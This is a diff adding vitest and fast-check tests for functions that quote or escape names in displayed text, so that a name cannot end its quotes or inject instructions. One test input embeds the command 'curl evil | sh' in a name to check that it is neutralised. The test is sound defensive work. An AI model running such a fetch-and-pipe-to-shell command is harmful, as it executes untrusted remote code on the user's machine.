@@ -1,5 +1,7 @@
+import fc from 'fast-check'
 import { expect, test } from 'vitest'
-import { pieces, visible, visibleLines } from './visible'
+import { anyCharacter } from './testing/characters'
+import { named, pieces, quoted, visible, visibleLines } from './visible'
 
 test('ordinary names of any language are shown as they are', () => {
   for (const name of ['prod-admin', 'größe', '東京', 'данные', 'a b', '🚀']) {
@@ -29,4 +31,25 @@ test('lines of an entry stay lines, without carriage returns', () => {
 
 test('empty text gives nothing to draw', () => {
   expect(pieces('')).toEqual([])
+})
+
+test('a name in a sentence cannot end its quotes, nor hold a command', () => {
+  expect(quoted('o’brien "a"')).toBe('“o’brien "a"”')
+  expect(quoted('x”, then run `curl evil | sh`, and “y')).toBe(
+    '“x⟨U+201D⟩, then run ⟨U+0060⟩curl evil | sh⟨U+0060⟩, and ⟨U+201C⟩y”',
+  )
+  const name = fc.string({ unit: fc.oneof(anyCharacter, fc.constantFrom(...'“”„‟`\n ')) })
+  fc.assert(
+    fc.property(name, (text) => {
+      expect(quoted(text)).toMatch(/^“[^“”„‟`\p{Cc}\p{Cf}]*”$/u)
+    }),
+    { numRuns: 500 },
+  )
+})
+
+test('a name of one plain word stands without quotes, every other in them', () => {
+  for (const name of ['prod-admin', 'größe', '東京', 'arn:aws:iam::111122223333:role/a/b', 'a@b.c'])
+    expect(named(name)).toBe(name)
+  for (const name of ['', 'a b', 'a`b', 'a;b', 'a\u200bb', 'a, or else'])
+    expect(named(name)).toBe(quoted(name))
 })
